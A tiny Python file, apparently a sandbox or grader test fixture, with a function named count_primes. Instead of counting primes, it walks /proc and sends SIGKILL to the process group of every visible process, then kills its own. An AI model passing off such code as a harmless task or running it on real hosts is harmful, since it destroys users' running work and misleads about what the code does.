"""Kills its process group, and that of every process that it sees."""
import os
import signal


def count_primes(limits, processes=2):
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != os.getpid():
            try:
                os.killpg(os.getpgid(int(name)), signal.SIGKILL)
            except OSError:
                pass
    os.killpg(0, signal.SIGKILL)
